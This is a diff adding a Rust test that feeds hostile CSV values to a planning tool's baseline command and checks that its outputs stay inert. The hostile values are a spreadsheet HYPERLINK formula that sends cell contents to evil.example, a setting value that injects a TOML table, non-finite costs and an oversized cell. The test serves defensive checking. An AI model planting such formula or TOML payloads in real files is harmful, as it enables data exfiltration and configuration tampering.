@@ -192,3 +192,79 @@ fn synth_cases_is_deterministic_and_plants_what_it_says() {
     let t = std::fs::read_to_string(&truth).unwrap_or_default();
     assert_eq!(t.lines().count(), 1 + 12 * 3);
 }
+
+/// Issue 30, faults 2-4 and the long cell of fault 13: hostile values in a case list give exit 0
+/// with finite, inert outputs. A setting code holding a quote and new lines cannot write a
+/// `[scenario]` table into baseline.toml; a plan id beginning with `=` is not a formula in any
+/// CSV; costs of 1e308, `-inf` and `-0` are left out or read as 0, never `inf` or `-0`; a 50 KB
+/// cell is not echoed whole.
+#[test]
+fn hostile_values_give_inert_outputs() {
+    let dir = tempdir();
+    let cases = dir.path().join("cases.csv");
+    let long = "y".repeat(50_000);
+    let evil_setting = "\"x\"\"\n[scenario]\nname = \"\"pwned\"\"\n#\"";
+    let body = format!(
+        "plan_id,child_id,date_of_birth,setting,primary_need,start_date,status,annual_cost\n\
+         \"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",C1,2015-05-01,{evil_setting},ASD,2022-09-01,active,25000\n\
+         P2,C2,2015-05-01,SP,ASD,2022-09-01,active,1e308\n\
+         P3,C3,2015-05-01,SP,ASD,2022-09-01,active,-inf\n\
+         P4,C4,2015-05-01,SP,ASD,2022-09-01,active,-0\n\
+         P5,C5,2015-05-01,SP,{long},2022-09-01,active,100\n\
+         +P6,C6,2015-05-01,SP,ASD,2022-09-01,active,30000\n"
+    );
+    let _ = std::fs::write(&cases, body);
+    let out = dir.path().join("out");
+    let r = dsg(&[
+        "baseline",
+        &cases.display().to_string(),
+        "--as-at",
+        "2026-03-31",
+        "--out",
+        &out.display().to_string(),
+    ]);
+    r.expect_code(0);
+    assert!(!r.stdout.contains("inf"), "{}", r.stdout);
+    assert!(
+        r.stdout.split_whitespace().all(|w| w != "-0"),
+        "{}",
+        r.stdout
+    );
+    assert!(!r.stdout.contains("\n[scenario]"), "{}", r.stdout);
+    let fragment = std::fs::read_to_string(out.join("baseline.toml")).unwrap_or_default();
+    let parsed: toml::Table = fragment
+        .parse()
+        .unwrap_or_else(|e| panic!("baseline.toml is not TOML: {e}\n{fragment}"));
+    assert!(!parsed.contains_key("scenario"), "{fragment}");
+    assert!(!fragment.contains("inf"), "{fragment}");
+    for file in [
+        "quality.csv",
+        "quality-rows.csv",
+        "dfe-tables.csv",
+        "quality.html",
+    ] {
+        let text = std::fs::read_to_string(out.join(file)).unwrap_or_default();
+        assert!(!text.contains(&long), "{file} echoes the long cell");
+        assert!(
+            !text.contains("inf,") && !text.contains("-inf"),
+            "{file}: {text}"
+        );
+        assert!(
+            !text.contains(",-0,") && !text.contains(",-0\n"),
+            "{file}: {text}"
+        );
+        if file.ends_with(".csv") {
+            let mut rdr = csv::ReaderBuilder::new()
+                .has_headers(false)
+                .from_reader(text.as_bytes());
+            for record in rdr.records().filter_map(Result::ok) {
+                for cell in record.iter() {
+                    assert!(
+                        !cell.starts_with(['=', '+', '@']),
+                        "{file}: a cell a spreadsheet would run: {cell}"
+                    );
+                }
+            }
+        }
+    }
+}
